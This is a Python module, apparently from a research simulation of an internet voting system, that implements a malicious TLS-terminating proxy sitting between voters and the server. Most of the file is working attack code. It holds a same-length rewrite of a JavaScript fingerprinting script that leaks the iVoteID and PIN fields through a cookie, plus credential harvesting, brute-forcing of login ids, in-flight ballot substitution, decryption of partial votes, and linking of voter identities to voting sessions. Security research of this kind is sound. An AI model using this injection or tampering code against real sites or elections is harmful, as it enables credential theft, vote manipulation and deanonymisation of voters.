"""A non-transparent TLS-terminating DDoS-mitigation proxy.

The proxy sits on the plaintext request/response stream between browser
and server. Each client connection is a session with an append-only
transcript. Beyond relaying it can do what the provider already does
(append a profiling script, set a visitor cookie) and what a malicious
operator could do on top: swap in a same-length credential-leaking
script, brute-force the posted login id, replace a ballot in flight,
decrypt partial votes and link registration to voting sessions.
"""

from __future__ import annotations

import itertools
import json
import threading
from dataclasses import dataclass, field
from pathlib import Path

from . import crypto, wire
from .ballot import PartialVote, make_ballot, open_partial_vote, validate_preferences
from .bruteforce import Keyspace
from .bruteforce.search import Cracker
from .client import parse_profile_cookie
from .crypto import CredentialFile, Credentials, b64d
from .errors import (
    AuthenticationError,
    CannotSubstitute,
    IVoteError,
    PayloadRejected,
    PreconditionError,
    TooLate,
    ValidationError,
)

PROFILE_COOKIE = "__utmvc"
VISITOR_COOKIE = "visid_incap"
DEFAULT_COOKIE_LIFETIME = 20

_PROFILE_TEMPLATE = (
    "<script data-incap='profile'>(function(){{var n='{name}',t={life},w=[{watch}];"
    "{comment}"
    "var p=[navigator.userAgent,navigator.plugins.length,navigator.platform,"
    "navigator.hardwareConcurrency,screen.width+'x'+screen.height];"
    "var d=0;for(var i=0;i<document.cookie.length;i++){{d=(d*31+document.cookie.charCodeAt(i))|0}}"
    "{hooks}"
    "document.cookie=n+'='+encodeURIComponent(p.join('|')+'|'+d)+';max-age='+t;"
    "}})();</script>"
)
_ORIGINAL_COMMENT = (
    "/* Incapsula client classification: collects browser, plugin, platform and "
    "CPU characteristics together with a digest of the cookies already present on "
    "the page, and reports them through a short lived profiling cookie. This block "
    "is shipped unminified. */"
)
_LEAK_HOOKS = (
    "w.forEach(function(f){{var e=document.getElementsByName(f)[0];"
    "e.onchange=function(){{p.push(f+'='+e.value);"
    "document.cookie=n+'='+encodeURIComponent(p.join('|'))+';max-age='+t}}}});"
)


def profiling_script(lifetime: int = DEFAULT_COOKIE_LIFETIME, name: str = PROFILE_COOKIE) -> str:
    """The provider's own fingerprinting snippet appended to HTML responses."""
    return _PROFILE_TEMPLATE.format(name=name, life=lifetime, watch="", comment=_ORIGINAL_COMMENT,
                                    hooks="")


@dataclass(frozen=True)
class InjectionPayload:
    original_script: str
    modified_script: str

    def __post_init__(self):
        if len(self.modified_script.encode()) != len(self.original_script.encode()):
            raise PayloadRejected("modified script must have exactly the original length")
        for script in (self.original_script, self.modified_script):
            if json.dumps(script)[1:-1] != script:
                raise PayloadRejected("scripts must not need JSON escaping")


def make_leak_payload(original: str | None = None, fields=("iVoteID", "PIN"),
                      lifetime: int = DEFAULT_COOKIE_LIFETIME) -> InjectionPayload:
    """Rewrite the provider script to also copy ``fields`` into its cookie.

    The added listener code is paid for by shortening the unminified
    comment, so the script keeps its byte length.
    """
    original = original or profiling_script(lifetime)
    watch = ",".join(f"'{f}'" for f in fields)
    bare = _PROFILE_TEMPLATE.format(name=PROFILE_COOKIE, life=lifetime, watch=watch,
                                    comment="", hooks=_LEAK_HOOKS.format())
    slack = len(original) - len(bare)
    if slack < 4:
        raise PayloadRejected("not enough slack in the original script to hide the hooks")
    comment = ("/*" + _ORIGINAL_COMMENT[2:slack - 2] + "*/") if slack >= 4 else ""
    modified = _PROFILE_TEMPLATE.format(name=PROFILE_COOKIE, life=lifetime, watch=watch,
                                        comment=comment, hooks=_LEAK_HOOKS.format())
    return InjectionPayload(original, modified)


def inject(page_response: bytes, payload: InjectionPayload) -> bytes:
    """Swap the provider script in a login-page response for the modified one."""
    if len(payload.modified_script) != len(payload.original_script):
        raise PayloadRejected("payload changes the script length")
    msg = json.loads(page_response)
    html = msg.get("body", {}).get("html")
    if not isinstance(html, str) or payload.original_script not in html:
        raise PayloadRejected("response does not carry the original script")
    msg["body"]["html"] = html.replace(payload.original_script, payload.modified_script, 1)
    out = json.dumps(msg, sort_keys=True, separators=(",", ":")).encode("utf-8") + b"\n"
    if len(out) != len(page_response):
        raise PayloadRejected("injected response length differs from the original")
    return out


# -- transcripts -----------------------------------------------------------------

@dataclass
class Message:
    direction: str          # "c2s" or "s2c"
    endpoint: str
    raw: bytes              # as received from the sender
    timestamp: float
    forwarded: bytes | None = None   # set only when the proxy rewrote the message

    @property
    def rewritten(self) -> bool:
        return self.forwarded is not None

    @property
    def kind(self) -> str:
        return wire.endpoint_kind(self.endpoint)

    def envelope(self, forwarded=False) -> dict:
        data = self.forwarded if forwarded and self.forwarded is not None else self.raw
        try:
            return json.loads(data)
        except (ValueError, UnicodeDecodeError):
            return {}

    def body(self, forwarded=False) -> dict:
        return self.envelope(forwarded).get("body") or {}

    def ok(self) -> bool:
        return self.envelope(forwarded=True).get("status") == "ok"


@dataclass
class Transcript:
    session_id: str
    client_fingerprint: str | None = None
    messages: list = field(default_factory=list)

    def append(self, msg: Message):
        self.messages.append(msg)

    def requests(self, kind=None):
        return [m for m in self.messages if m.direction == "c2s" and (kind is None or m.kind == kind)]

    def responses(self, kind=None):
        return [m for m in self.messages if m.direction == "s2c" and (kind is None or m.kind == kind)]

    def login_id(self) -> str | None:
        for m in self.requests(wire.LOGIN):
            voter_id = m.body().get("voterID")
            if isinstance(voter_id, str):
                return voter_id
        return None

    def credential_file(self) -> CredentialFile | None:
        for m in self.responses(wire.LOGIN):
            if m.ok():
                return CredentialFile.from_dict(m.body(forwarded=True))
        return None

    def token(self) -> dict | None:
        tokens = [m.body(forwarded=True) for m in self.responses("vote-encoder/token") if m.ok()]
        return tokens[0] if tokens else None

    def registration_identity(self) -> str | None:
        for m in self.requests(wire.REGISTER):
            identity = m.body().get("identity")
            if isinstance(identity, str):
                return identity
        return None

    def has_cast(self) -> bool:
        return bool(self.requests("vote-encoder/vote"))

    def to_lines(self):
        for m in self.messages:
            yield json.dumps({
                "session_id": self.session_id,
                "client_fingerprint": self.client_fingerprint,
                "direction": m.direction,
                "endpoint": m.endpoint,
                "timestamp": m.timestamp,
                "raw": m.raw.decode("utf-8"),
                "forwarded": m.forwarded.decode("utf-8") if m.forwarded is not None else None,
            }, sort_keys=True)


def dump_transcripts(transcripts, path):
    with open(path, "w", encoding="utf-8") as fh:
        for t in transcripts:
            for line in t.to_lines():
                fh.write(line + "\n")


def load_transcripts(path) -> dict:
    out: dict[str, Transcript] = {}
    for line in Path(path).read_text(encoding="utf-8").splitlines():
        if not line.strip():
            continue
        d = json.loads(line)
        t = out.setdefault(d["session_id"], Transcript(d["session_id"]))
        t.client_fingerprint = d.get("client_fingerprint") or t.client_fingerprint
        fwd = d.get("forwarded")
        t.append(Message(d["direction"], d["endpoint"], d["raw"].encode("utf-8"), d["timestamp"],
                         fwd.encode("utf-8") if fwd is not None else None))
    return out


# -- offline analyses --------------------------------------------------------------

@dataclass(frozen=True)
class Harvest:
    credentials: Credentials
    client_fingerprint: str | None
    session_id: str
    observed_at: float


def harvest_credentials(transcript: Transcript, lifetime: float = DEFAULT_COOKIE_LIFETIME,
                        iterations: int | None = None) -> list:
    """Credentials leaked through the profiling cookie of ``transcript``.

    A cookie counts only if it was observed within ``lifetime`` seconds of
    being set. With ``iterations`` given, candidates are kept only if they
    derive the login id the session actually posted.
    """
    found = {}
    for m in transcript.requests():
        value = (m.envelope().get("cookies") or {}).get(PROFILE_COOKIE)
        if not isinstance(value, str):
            continue
        fields = parse_profile_cookie(value)
        if "iVoteID" not in fields or "PIN" not in fields:
            continue
        try:
            set_at = float(fields["ts"])
            creds = Credentials(fields["iVoteID"], fields["PIN"])
        except (KeyError, ValueError):
            continue
        if not 0 <= m.timestamp - set_at <= lifetime:
            continue
        found[creds] = Harvest(creds, fields.get("fp") or transcript.client_fingerprint,
                               transcript.session_id, m.timestamp)
    harvests = list(found.values())
    observed = transcript.login_id()
    if iterations is not None and observed is not None:
        harvests = [h for h in harvests
                    if crypto.derive_login_id(h.credentials, iterations) == observed]
    return harvests


@dataclass
class PartialsReport:
    preferences: list
    failures: list        # indices (into the recovered blob list) that did not authenticate

    def __iter__(self):
        return iter(self.preferences)

    def __len__(self):
        return len(self.preferences)


def decrypt_partials(transcript: Transcript, creds: Credentials,
                     iterations: int = crypto.DEFAULT_ITERATIONS) -> PartialsReport:
    """Open the recorded credential file with ``creds`` and unseal every partial vote seen.

    Blobs come from the first token of the session (earlier sessions' saves)
    followed by the session's own posts, in order, without duplicates.
    """
    blobs, seen = [], set()
    token = transcript.token()
    for d in (token or {}).get("partial_votes", []):
        blobs.append(d)
    for m in transcript.requests("vote-encoder/partial_vote"):
        blobs.append(m.body())
    unique = []
    for d in blobs:
        key = json.dumps(d, sort_keys=True)
        if key not in seen:
            seen.add(key)
            unique.append(d)
    if not unique:
        return PartialsReport([], [])
    cf = transcript.credential_file()
    if cf is None:
        raise PreconditionError("transcript holds no credential file")
    try:
        kp = crypto.open_credential_file(creds, cf, iterations).kp
    except AuthenticationError:
        return PartialsReport([], list(range(len(unique))))
    prefs, failures = [], []
    for i, d in enumerate(unique):
        try:
            prefs.append(open_partial_vote(kp, PartialVote.from_dict(d)))
        except (AuthenticationError, ValidationError):
            failures.append(i)
    return PartialsReport(prefs, failures)


def link_sessions(transcripts) -> dict:
    """Join registration and voting sessions on the visitor fingerprint.

    Returns ``identity -> voting session id``. Fingerprints shared by more
    than one registered identity are ambiguous and dropped.
    """
    transcripts = list(transcripts.values() if isinstance(transcripts, dict) else transcripts)
    identities: dict[str, set] = {}
    for t in transcripts:
        identity = t.registration_identity()
        if identity is not None and t.client_fingerprint:
            identities.setdefault(t.client_fingerprint, set()).add(identity)
    links = {}
    for t in transcripts:
        if t.login_id() is None or not t.client_fingerprint:
            continue
        owners = identities.get(t.client_fingerprint, set())
        if len(owners) != 1:
            continue
        identity = next(iter(owners))
        prior = links.get(identity)
        # a session that cast beats one that only logged in
        if prior is None or (t.has_cast() and not prior[1]):
            links[identity] = (t.session_id, t.has_cast())
    return {identity: sid for identity, (sid, _) in links.items()}


# -- live proxy --------------------------------------------------------------------

@dataclass
class AttackConfig:
    passive_log: bool = True
    profiling: bool = False
    inject: bool = False
    substitute: bool = False
    attacker_prefs: dict | None = None
    cracker: Cracker = field(default_factory=Cracker)
    cookie_lifetime_seconds: int = DEFAULT_COOKIE_LIFETIME
    # public election parameters the attacker knows
    kdf_iterations: int = crypto.DEFAULT_ITERATIONS
    pin_digits: int = crypto.DEFAULT_PIN_DIGITS
    id_digits: int = crypto.DEFAULT_ID_DIGITS

    def __post_init__(self):
        if self.substitute and not self.passive_log:
            raise ValidationError("substitute mode requires passive_log")
        if self.inject and not (self.profiling and self.passive_log):
            raise ValidationError("inject mode rewrites the profiling script and reads the log")


@dataclass
class Substitution:
    session_id: str
    attacker_prefs: dict
    status: str = "armed"        # armed | done | failed
    receipt: str | None = None
    error: str | None = None


class ProxySession:
    def __init__(self, proxy: "DDoSProxy", session_id: str):
        self.proxy = proxy
        self.session_id = session_id

    def exchange(self, raw: bytes) -> bytes:
        return self.proxy.exchange(self.session_id, raw)


class DDoSProxy:
    def __init__(self, upstream, config: AttackConfig | None = None,
                 clock: wire.SimClock | None = None, rng=None):
        self.upstream = upstream
        self.config = config or AttackConfig()
        self.clock = clock or wire.SimClock()
        self.rng = rng or crypto.system_rng()
        self.transcripts: dict[str, Transcript] = {}
        self.recovered: dict[str, Credentials] = {}
        self.substitutions: dict[str, Substitution] = {}
        self.original_script = profiling_script(self.config.cookie_lifetime_seconds)
        self.payload = (make_leak_payload(self.original_script,
                                          lifetime=self.config.cookie_lifetime_seconds)
                        if self.config.inject else None)
        self._counter = itertools.count(1)
        self._lock = threading.RLock()

    def connect(self) -> ProxySession:
        with self._lock:
            sid = f"s{next(self._counter):05d}"
            self.transcripts[sid] = Transcript(sid)
        return ProxySession(self, sid)

    # -- relaying ---------------------------------------------------------------

    def exchange(self, session_id: str, raw: bytes) -> bytes:
        try:
            endpoint = wire.decode_request(raw)["endpoint"]
        except ValidationError:
            endpoint = "?"
        forwarded = self.relay(session_id, "c2s", endpoint, raw)
        response = self.upstream.exchange(forwarded)
        return self.relay(session_id, "s2c", endpoint, response)

    def relay(self, session_id: str, direction: str, endpoint: str, body: bytes) -> bytes:
        """Record one message and return the bytes to forward."""
        with self._lock:
            transcript = self.transcripts.setdefault(session_id, Transcript(session_id))
            out = body
            if direction == "c2s":
                out = self._rewrite_request(transcript, endpoint, body)
            else:
                out = self._rewrite_response(transcript, endpoint, body)
            if self.config.passive_log:
                transcript.append(Message(direction, endpoint, body, self.clock.now(),
                                          out if out != body else None))
            return out

    def _rewrite_request(self, t: Transcript, endpoint, raw):
        try:
            env = json.loads(raw)
        except (ValueError, UnicodeDecodeError):
            return raw
        fp = (env.get("cookies") or {}).get(VISITOR_COOKIE)
        if fp and not t.client_fingerprint:
            t.client_fingerprint = fp
        sub = self.substitutions.get(t.session_id)
        if (sub is not None and sub.status == "armed"
                and wire.endpoint_kind(endpoint) == "vote-encoder/vote"):
            return self._swap_ballot(t, sub, env, raw)
        return raw

    def _rewrite_response(self, t: Transcript, endpoint, raw):
        if not self.config.profiling and t.session_id not in self.substitutions:
            return raw
        try:
            env = json.loads(raw)
        except (ValueError, UnicodeDecodeError):
            return raw
        changed = False
        if self.config.profiling and env.get("status") == "ok":
            if wire.endpoint_kind(endpoint) == wire.LOGIN_PAGE and "html" in env.get("body", {}):
                env["body"]["html"] = env["body"]["html"] + self.original_script
                changed = True
            if not t.client_fingerprint:
                t.client_fingerprint = self.rng.randbytes(8).hex()
                env.setdefault("set_cookies", {})[VISITOR_COOKIE] = t.client_fingerprint
                changed = True
        sub = self.substitutions.get(t.session_id)
        if (sub is not None and sub.status == "done" and sub.receipt is None
                and wire.endpoint_kind(endpoint) == "vote-encoder/vote"):
            sub.receipt = (env.get("body") or {}).get("receipt")
        if not changed:
            return raw
        out = json.dumps(env, sort_keys=True, separators=(",", ":")).encode("utf-8") + b"\n"
        if self.payload is not None and wire.endpoint_kind(endpoint) == wire.LOGIN_PAGE:
            out = inject(out, self.payload)
        return out

    def _swap_ballot(self, t: Transcript, sub: Substitution, env: dict, raw: bytes) -> bytes:
        try:
            cf = t.credential_file()
            token = t.token()
            if cf is None or token is None:
                raise CannotSubstitute("session has no recorded credential file or token")
            km = crypto.open_credential_file(self.recovered[t.session_id], cf,
                                             self.config.kdf_iterations)
            ballot = make_ballot(sub.attacker_prefs, b64d(token["election_public_key"]), km.sk,
                                 self.rng)
        except (IVoteError, KeyError) as exc:
            sub.status, sub.error = "failed", repr(exc)
            return raw
        env["body"] = ballot.to_dict()
        sub.status = "done"
        return json.dumps(env, sort_keys=True, separators=(",", ":")).encode("utf-8") + b"\n"

    # -- attacks -----------------------------------------------------------------

    def _transcript(self, session) -> Transcript:
        if isinstance(session, Transcript):
            return session
        try:
            return self.transcripts[session]
        except KeyError:
            raise PreconditionError(f"no transcript for session {session!r}") from None

    def harvest_credentials(self, session=None) -> list:
        """Harvest leaked credentials from one session or from all of them."""
        targets = [self._transcript(session)] if session is not None else list(
            self.transcripts.values())
        out = []
        for t in targets:
            for h in harvest_credentials(t, self.config.cookie_lifetime_seconds,
                                         self.config.kdf_iterations):
                self.recovered[t.session_id] = h.credentials
                out.append(h)
        return out

    def crack_session(self, session, known_id_hint: str | None = None) -> Credentials:
        """Brute-force the login id the session posted."""
        t = self._transcript(session)
        login_id = t.login_id()
        if login_id is None:
            raise PreconditionError("transcript has no login id to attack")
        cfg = self.config
        if known_id_hint is not None:
            ks = Keyspace.known_id(known_id_hint, cfg.pin_digits, cfg.kdf_iterations)
        else:
            ks = Keyspace.all_ids(cfg.id_digits, cfg.pin_digits, cfg.kdf_iterations)
        creds = cfg.cracker.crack(login_id, ks).credentials
        self.recovered[t.session_id] = creds
        return creds

    def substitute_ballot(self, session_id: str, attacker_prefs: dict | None = None) -> Substitution:
        """Arm replacement of this session's ballot when the cast passes through."""
        t = self._transcript(session_id)
        prefs = attacker_prefs or self.config.attacker_prefs
        if prefs is None:
            raise ValidationError("no attacker preferences given")
        if t.has_cast():
            raise TooLate("the voter has already cast")
        if session_id not in self.recovered:
            raise CannotSubstitute("credentials for this session are not known")
        token = t.token()
        if token is not None:
            validate_preferences(prefs, token["races"], complete=True)
        sub = Substitution(session_id, prefs)
        self.substitutions[session_id] = sub
        return sub

    def decrypt_partials(self, session, creds: Credentials | None = None) -> PartialsReport:
        t = self._transcript(session)
        creds = creds or self.recovered.get(t.session_id)
        if creds is None:
            raise PreconditionError("credentials for this session are not known")
        return decrypt_partials(t, creds, self.config.kdf_iterations)

    def link_sessions(self) -> dict:
        return link_sessions(self.transcripts)

    def dump(self, path):
        dump_transcripts(self.transcripts.values(), path)
